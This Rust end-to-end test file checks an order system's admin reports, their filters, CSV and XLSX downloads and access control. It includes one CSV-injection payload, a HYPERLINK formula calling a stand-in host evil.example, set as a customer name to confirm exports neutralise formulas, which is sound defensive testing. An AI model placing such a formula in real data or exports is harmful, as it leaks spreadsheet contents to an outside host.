//! Reports end to end: each kind's rows match the orders the test made, the filters narrow them,
//! and the CSV link downloads a file with the same rows (a BOM first, `,` or `;`, formulas
//! neutralised), the XLSX link a workbook with them.

use crate::setup;

use crate::support::Stack;
use serde_json::{json, Value};
use std::collections::BTreeMap;
use std::time::Duration;

/// Every report kind, as openapi.yaml lists them.
fn kinds() -> Vec<String> {
    let path = crate::support::workspace_root().join("openapi.yaml");
    let doc: serde_norway::Value =
        serde_norway::from_str(&std::fs::read_to_string(path).unwrap()).unwrap();
    let kinds: Vec<String> = doc["paths"]["/admin/reports/{kind}"]["get"]["parameters"]
        .as_sequence()
        .unwrap()
        .iter()
        .find(|p| p["name"].as_str() == Some("kind"))
        .and_then(|p| p["schema"]["enum"].as_sequence())
        .unwrap()
        .iter()
        .filter_map(|k| k.as_str().map(String::from))
        .collect();
    assert!(kinds.len() >= 8, "{kinds:?}");
    kinds
}

fn order_for(customer: &str, name: &str, external_id: &str, lines: Value, total: &str) -> Value {
    let mut o = setup::order(external_id, lines, total);
    o["customer"] = json!({"email": customer, "name": name});
    o
}

/// Posts each (channel token, order) and waits until every order has left `accepted`; the ids.
pub(crate) async fn place_and_route(stack: &Stack, orders: &[(&String, Value)]) -> Vec<String> {
    let mut ids = Vec::new();
    for (token, body) in orders {
        let key = body["externalId"].as_str().unwrap();
        let (status, created) = stack
            .post_idempotent("/orders", Some(token), key, body)
            .await;
        assert_eq!(status, 201, "{created}");
        ids.push(created["id"].as_str().unwrap().to_string());
    }
    for id in &ids {
        stack
            .eventually("the order routed", Duration::from_secs(30), || async {
                let (_, o) = stack
                    .get(&format!("/admin/orders/{id}"), Some(&stack.admin_token))
                    .await;
                (o["status"] != "accepted").then_some(())
            })
            .await;
    }
    ids
}

async fn report(stack: &Stack, path: &str) -> Vec<Value> {
    let (status, body) = stack.get(path, Some(&stack.admin_token)).await;
    assert_eq!(status, 200, "{path}: {body}");
    body["items"].as_array().cloned().unwrap_or_default()
}

fn rows<'a>(items: &'a [Value], key: &str, value: &str) -> Vec<&'a Value> {
    items.iter().filter(|i| i[key] == value).collect()
}

fn text(v: &Value) -> String {
    match v {
        Value::Null => String::new(),
        Value::String(s) => s.clone(),
        other => other.to_string(),
    }
}

/// A customer name a spreadsheet would run as a formula (CSV injection), with the `;` and
/// quotes that semicolon CSVs must quote.
const FORMULA_NAME: &str = "=HYPERLINK(\"http://evil.example/?\"&A1;\"Ben Muster\")";

/// What a JSON cell must read as in a downloaded CSV: the text, with a leading `'` when it
/// starts like a formula and is not a plain number (openapi.yaml's rule, written again here).
fn csv_text(v: &Value) -> String {
    let t = text(v);
    let digits = t.strip_prefix('-').unwrap_or(&t);
    let (int, frac) = digits.split_once('.').unwrap_or((digits, "0"));
    let number = !int.is_empty()
        && !frac.is_empty()
        && int.bytes().chain(frac.bytes()).all(|b| b.is_ascii_digit());
    if t.starts_with(['=', '+', '-', '@', '\t', '\r']) && !number {
        format!("'{t}")
    } else {
        t
    }
}

/// A report file through its link: the body, its Content-Type and Content-Disposition.
async fn download(stack: &Stack, path: &str) -> (Vec<u8>, String, String) {
    let (status, link) = stack.get(path, Some(&stack.admin_token)).await;
    assert_eq!(status, 200, "{path}: {link}");
    let url = link["url"].as_str().expect("url");
    assert!(url.contains("/reports/"), "{url}");
    assert!(link["expiresAt"].is_string());
    let resp = stack.http().get(url).send().await.expect("download");
    assert_eq!(resp.status().as_u16(), 200, "{path}");
    let header = |name: &str| {
        resp.headers()
            .get(name)
            .and_then(|v| v.to_str().ok())
            .unwrap_or_default()
            .to_string()
    };
    let (content_type, disposition) = (header("content-type"), header("content-disposition"));
    let body = resp.bytes().await.expect("the file").to_vec();
    (body, content_type, disposition)
}

/// A downloaded CSV read with the csv crate: its BOM checked and dropped, header and rows.
fn read_csv(body: &[u8], delimiter: u8) -> (Vec<String>, Vec<Vec<String>>) {
    let rest = body
        .strip_prefix(b"\xEF\xBB\xBF".as_slice())
        .expect("a UTF-8 BOM first");
    let mut reader = csv::ReaderBuilder::new()
        .delimiter(delimiter)
        .from_reader(rest);
    let header = reader
        .headers()
        .expect("a header")
        .iter()
        .map(str::to_string)
        .collect();
    let rows = reader
        .records()
        .map(|r| r.expect("a CSV row").iter().map(str::to_string).collect())
        .collect();
    (header, rows)
}

#[tokio::test]
async fn every_report_matches_the_orders_made_and_its_csv_has_the_same_rows() {
    let stack = Stack::start().await;
    let world = setup::configure(&stack).await;
    let admin = Some(stack.admin_token.as_str());
    let orders = [
        (
            &world.web,
            order_for(
                "carla@example.com",
                "Carla Beispiel",
                "rep-1",
                json!([{"lineId": "L1", "sku": "CHAIR-TEAK", "quantity": 2, "unitPrice": "99.00"},
                       {"lineId": "L2", "sku": "LAMP-OAK", "quantity": 1, "unitPrice": "40.00"}]),
                "238.00",
            ),
        ),
        (
            &world.marketplace,
            order_for(
                "ben@example.com",
                FORMULA_NAME,
                "rep-2",
                json!([{"lineId": "L1", "sku": "THROW-WOOL", "quantity": 3, "unitPrice": "30.00"}]),
                "90.00",
            ),
        ),
        (
            &world.web,
            order_for(
                "carla@example.com",
                "Carla Beispiel",
                "rep-3",
                json!([{"lineId": "L1", "sku": "VASE-BLUE", "quantity": 1, "unitPrice": "25.00"}]),
                "25.00",
            ),
        ),
    ];
    let ids = place_and_route(&stack, &orders).await;
    // acme ships both chairs of the first order; the third order is cancelled.
    let chairs = stack
        .eventually("acme's delivery order", Duration::from_secs(30), || async {
            let (_, list) = stack
                .get("/fulfiller/delivery-orders", Some(&world.acme))
                .await;
            list["items"]
                .as_array()?
                .iter()
                .find(|d| d["orderId"] == ids[0].as_str())
                .and_then(|d| d["id"].as_str().map(str::to_owned))
        })
        .await;
    let (status, body) = stack
        .post(
            &format!("/fulfiller/delivery-orders/{chairs}/shipments"),
            Some(&world.acme),
            &json!({"carrier": "DHL", "trackingNumber": "00340434161094042557"}),
        )
        .await;
    assert!((200..300).contains(&status), "{status} {body}");
    let (status, body) = stack
        .post(
            &format!("/orders/{}/cancel", ids[2]),
            Some(&world.web),
            &json!({}),
        )
        .await;
    assert!((200..300).contains(&status), "{status} {body}");

    let today = chrono::Utc::now()
        .with_timezone(&chrono_tz_berlin())
        .date_naive()
        .to_string();
    let month = &today[..7];
    let range = format!("from={today}&to={today}");

    // orders: intake by day, channel and status.
    // The sales and orders reports may come from the report aggregates, which the change relay
    // keeps a moment after each write: the cancellation shows when they have caught up.
    let items = stack
        .eventually(
            "the cancellation in the orders report",
            Duration::from_secs(30),
            || async {
                let items = report(&stack, &format!("/admin/reports/orders?{range}")).await;
                (rows(&items, "status", "cancelled").len() == 1).then_some(items)
            },
        )
        .await;
    let sum = |items: &[Value], channel: &str, field: &str| -> f64 {
        rows(items, "channel", channel)
            .iter()
            .map(|r| match &r[field] {
                Value::String(s) => s.parse::<f64>().unwrap_or(0.0),
                v => v.as_f64().unwrap_or(0.0),
            })
            .sum()
    };
    assert!(
        items.iter().all(|r| r["date"] == today.as_str()),
        "{items:?}"
    );
    assert_eq!(sum(&items, "web-de", "orders"), 2.0, "{items:?}");
    assert_eq!(sum(&items, "web-de", "units"), 4.0, "{items:?}");
    assert_eq!(sum(&items, "web-de", "total"), 263.0, "{items:?}");
    assert_eq!(sum(&items, "marketplace", "total"), 90.0, "{items:?}");
    assert_eq!(
        rows(&items, "status", "cancelled").len(),
        1,
        "the cancelled order has its row: {items:?}"
    );
    let only_market = report(
        &stack,
        &format!("/admin/reports/orders?{range}&channel=marketplace"),
    )
    .await;
    assert_eq!(only_market.len(), 1, "{only_market:?}");
    assert!(
        report(&stack, &format!("/admin/reports/orders?{range}&country=AT"))
            .await
            .is_empty()
    );

    // sales: top sellers first, catalogue products without sales last.
    let items = report(&stack, &format!("/admin/reports/sales?{range}")).await;
    assert_eq!(items[0]["sku"], "THROW-WOOL", "{items:?}");
    assert_eq!(items[0]["unitsSold"], 3);
    assert_eq!(items[0]["revenue"], "90.00");
    let chair = rows(&items, "sku", "CHAIR-TEAK")[0];
    assert_eq!(
        (&chair["unitsSold"], &chair["revenue"], &chair["rank"]),
        (&json!(2), &json!("198.00"), &json!(2))
    );
    let vase = rows(&items, "sku", "VASE-BLUE")[0];
    assert_eq!(
        (&vase["unitsCancelled"], &vase["unitsSold"]),
        (&json!(1), &json!(0))
    );
    let seeds = rows(&items, "sku", "SEEDS")[0];
    assert_eq!(
        (&seeds["unitsSold"], &seeds["group"]),
        (&json!(0), &json!("garden"))
    );
    let garden = report(
        &stack,
        &format!("/admin/reports/sales?{range}&group=garden"),
    )
    .await;
    assert_eq!(garden.len(), 1, "{garden:?}");

    // customers: the best first.
    let items = report(&stack, &format!("/admin/reports/customers?{range}")).await;
    assert_eq!(items[0]["customer"], "carla@example.com", "{items:?}");
    assert_eq!(
        (&items[0]["orders"], &items[0]["total"]),
        (&json!(2), &json!("263.00"))
    );
    assert_eq!(
        (&items[1]["customer"], &items[1]["total"]),
        (&json!("ben@example.com"), &json!("90.00"))
    );

    // returns: the cancellation.
    let items = report(&stack, &format!("/admin/reports/returns?{range}")).await;
    let cancelled = rows(&items, "kind", "cancellation");
    assert_eq!(cancelled.len(), 1, "{items:?}");
    assert_eq!(cancelled[0]["orderId"], ids[2].as_str());
    assert_eq!(
        (&cancelled[0]["units"], &cancelled[0]["amount"]),
        (&json!(1), &json!("25.00"))
    );

    // stock: what each fulfiller's own stock endpoint says.
    let items = report(&stack, "/admin/reports/stock?fulfiller=acme-garden").await;
    let (_, own) = stack.get("/fulfiller/stock", Some(&world.acme)).await;
    let own = own["items"].as_array().cloned().unwrap_or_default();
    assert_eq!(items.len(), own.len(), "{items:?} vs {own:?}");
    for o in &own {
        let r = rows(&items, "sku", o["sku"].as_str().unwrap())[0];
        assert_eq!(
            (&r["available"], &r["reserved"], &r["fulfillerId"]),
            (&o["available"], &o["reserved"], &json!("acme-garden"))
        );
    }
    assert_eq!(report(&stack, "/admin/reports/stock").await.len(), 6);

    // finance: per rate, what the orders' own tax lines add up to.
    let items = report(&stack, &format!("/admin/reports/finance?{range}")).await;
    let mut expected: BTreeMap<String, (f64, f64)> = BTreeMap::new();
    for id in &ids {
        let (_, o) = stack.get(&format!("/admin/orders/{id}"), admin).await;
        for t in o["totals"]["tax"].as_array().cloned().unwrap_or_default() {
            let e = expected.entry(text(&t["rate"])).or_default();
            e.0 += text(&t["net"]).parse::<f64>().unwrap();
            e.1 += text(&t["tax"]).parse::<f64>().unwrap();
        }
    }
    assert!(!expected.is_empty());
    for (rate, (net, tax)) in expected {
        let r = items
            .iter()
            .find(|r| r["taxRate"] == rate.as_str() && r["month"] == month)
            .unwrap_or_else(|| panic!("rate {rate}: {items:?}"));
        assert_eq!(r["country"], "DE");
        assert!(
            (text(&r["net"]).parse::<f64>().unwrap() - net).abs() < 0.001,
            "{r}"
        );
        assert!(
            (text(&r["tax"]).parse::<f64>().unwrap() - tax).abs() < 0.001,
            "{r}"
        );
    }

    // settlement: acme shipped two chairs at 64.00 each.
    let items = report(&stack, &format!("/admin/reports/settlement?{range}")).await;
    let acme: Vec<&Value> = rows(&items, "fulfillerId", "acme-garden");
    assert_eq!(acme.len(), 2, "the chair row and acme's total: {items:?}");
    assert_eq!(acme[0]["sku"], "CHAIR-TEAK");
    assert_eq!(
        (
            &acme[0]["unitsShipped"],
            &acme[0]["units"],
            &acme[0]["purchasePrice"],
            &acme[0]["amount"]
        ),
        (&json!(2), &json!(2), &json!("64.00"), &json!("128.00"))
    );
    assert_eq!(
        (&acme[1]["sku"], &acme[1]["amount"]),
        (&Value::Null, &json!("128.00"))
    );
    assert_eq!(acme[0]["month"], month);

    // Every kind as CSV, with `,` and with `;`: the link downloads the same rows, same
    // columns, read back by the csv crate; a formula in a name arrives neutralised.
    for kind in kinds() {
        let path = format!("/admin/reports/{kind}?{range}");
        let items = report(&stack, &path).await;
        for (query, delimiter) in [("", b','), ("&delimiter=semicolon", b';')] {
            let (body, content_type, disposition) =
                download(&stack, &format!("{path}&format=csv{query}")).await;
            assert_eq!(content_type, "text/csv; charset=utf-8", "{kind}");
            assert_eq!(disposition, format!("attachment; filename=\"{kind}.csv\""));
            let (header, csv_rows) = read_csv(&body, delimiter);
            let first_line = body.split(|b| *b == b'\n').next().unwrap_or_default();
            assert_eq!(
                first_line.iter().filter(|b| **b == delimiter).count() + 1,
                header.len(),
                "{kind}: the header is split by {}",
                delimiter as char
            );
            assert_eq!(csv_rows.len(), items.len(), "{kind}{query}");
            for (row, item) in csv_rows.iter().zip(&items) {
                let obj = item.as_object().expect("row object");
                assert_eq!(header.len(), obj.len(), "{kind}: {header:?} vs {item}");
                for (col, cell) in header.iter().zip(row) {
                    assert_eq!(*cell, csv_text(&item[col]), "{kind}{query}.{col}");
                }
            }
        }
    }
    let customers = report(&stack, &format!("/admin/reports/customers?{range}")).await;
    assert!(
        customers.iter().any(|c| c["name"] == FORMULA_NAME),
        "the JSON keeps the name as it is: {customers:?}"
    );
    let (body, _, _) = download(
        &stack,
        &format!("/admin/reports/customers?{range}&format=csv&delimiter=semicolon"),
    )
    .await;
    let (header, csv_rows) = read_csv(&body, b';');
    let name = header
        .iter()
        .position(|h| h == "name")
        .expect("a name column");
    assert!(
        csv_rows
            .iter()
            .any(|r| r[name] == format!("'{FORMULA_NAME}")),
        "{csv_rows:?}"
    );

    // XLSX: a workbook that opens (a zip with the sheet), the name as text, money as numbers.
    let (body, content_type, disposition) = download(
        &stack,
        &format!("/admin/reports/customers?{range}&format=xlsx"),
    )
    .await;
    assert_eq!(
        content_type,
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    );
    assert_eq!(disposition, "attachment; filename=\"customers.xlsx\"");
    let mut zip = zip::ZipArchive::new(std::io::Cursor::new(body)).expect("an XLSX zip");
    let mut part = |name: &str| {
        let mut xml = String::new();
        std::io::Read::read_to_string(&mut zip.by_name(name).expect(name), &mut xml)
            .expect("XML text");
        xml
    };
    let sheet = part("xl/worksheets/sheet1.xml");
    let strings = part("xl/sharedStrings.xml");
    assert!(part("xl/workbook.xml").contains("<sheet name=\"customers\""));
    assert!(!sheet.contains("<f>"), "no formula in {sheet}");
    assert!(
        strings.contains("=HYPERLINK(\"http://evil.example/?\"&amp;A1;\"Ben Muster\")"),
        "{strings}"
    );
    for c in &customers {
        let total: f64 = text(&c["total"]).parse().expect("a money string");
        assert!(
            sheet.contains(&format!("<v>{total}</v>")),
            "{total} in {sheet}"
        );
    }

    // Admins only; bad input is refused with the field.
    let (status, body) = stack.get("/admin/reports/sales", Some(&world.web)).await;
    assert_eq!((status, &body["error"]["code"]), (403, &json!("forbidden")));
    let (status, _) = stack.get("/admin/reports/sales", None).await;
    assert_eq!(status, 401);
    for (path, field) in [
        ("/admin/reports/sales?format=pdf", "format"),
        ("/admin/reports/sales?format=csv&delimiter=tab", "delimiter"),
        ("/admin/reports/sales?format=csv&delimiter=%3B", "delimiter"),
        ("/admin/reports/sales?from=2026-02-30", "from"),
        ("/admin/reports/orders?from=2025-01-01&to=2026-06-01", "to"),
        ("/admin/reports/stock?country=XX", "country"),
    ] {
        let (status, body) = stack.get(path, admin).await;
        assert_eq!(status, 422, "{path}: {body}");
        assert_eq!(body["error"]["field"], field, "{path}: {body}");
    }
    let (status, _) = stack.get("/admin/reports/profits", admin).await;
    assert_eq!(status, 404);
}

/// Europe/Berlin without a time-zone crate in the tests: CET/CEST by the EU rule.
fn chrono_tz_berlin() -> chrono::FixedOffset {
    use chrono::{Datelike, TimeZone};
    let now = chrono::Utc::now();
    let last_sunday = |month: u32| {
        let mut d = chrono::NaiveDate::from_ymd_opt(now.year(), month, 31).unwrap();
        while d.weekday() != chrono::Weekday::Sun {
            d = d.pred_opt().unwrap();
        }
        chrono::Utc.from_utc_datetime(&d.and_hms_opt(1, 0, 0).unwrap())
    };
    let summer = now >= last_sunday(3) && now < last_sunday(10);
    chrono::FixedOffset::east_opt(if summer { 7200 } else { 3600 }).unwrap()
}
